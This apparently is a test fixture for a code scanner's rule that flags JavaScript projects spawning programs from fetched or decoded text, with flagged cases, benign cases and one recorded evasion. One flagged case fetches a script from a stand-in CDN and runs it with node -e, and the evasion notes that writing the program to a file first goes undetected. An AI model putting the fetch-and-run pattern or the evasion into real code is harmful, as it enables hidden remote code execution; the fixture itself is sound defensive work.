import type { Examples } from "@doorward/core";

/** Programs that start other programs from hidden or fetched text, and honest ones. */
export const examples: Examples = {
  hits: [
    {
      name: "a fetched program that is given to a new node",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
        "a.js":
          'const { spawn } = require("child_process");\n\nfetch("https://cdn.example/agent.js").then((answer) => answer.text()).then((text) => spawn("node", ["-e", text]));\n',
      },
    },
    {
      name: "a decoded program that is given to Python",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
        "a.js":
          'require("child_process").spawn("python3", ["-c", Buffer.from("cHJpbnQoMSArIDEpICAjIGEgbG9uZ2VyIHRleHQ=", "base64").toString()]);\n',
      },
    },
    {
      name: "a plain program in a detached process that shows nothing",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
        "a.js":
          'require("child_process").spawn("node", ["-e", "setInterval(() => {}, 1000)"], { detached: true, stdio: "ignore" }).unref();\n',
      },
    },
  ],
  misses: [
    {
      name: "a plain program that prints a version",
      why: "It can be read and its output is used.",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
        "a.js": 'console.log(require("child_process").execFileSync("node", ["-p", "process.version"]).toString());\n',
      },
    },
    {
      name: "a detached program of the project",
      why: "It is a file that can be read.",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
        "a.js": 'require("child_process").spawn("node", ["server.js"], { detached: true, stdio: "ignore" }).unref();\n',
        "server.js": 'console.log("ready");\n',
      },
    },
    {
      name: "a script line of the manifest",
      why: "It can be read where it stands.",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "version-check": "node -e \\"console.log(process.version)\\""\n  }\n}\n',
      },
    },
  ],
  evasions: [
    {
      name: "the program is written to a file first",
      caughtBy: "nothing",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
        "a.js": 'require("child_process").spawn("node", ["next.js"]);\n',
        "next.js": 'console.log("ready");\n',
      },
    },
  ],
};
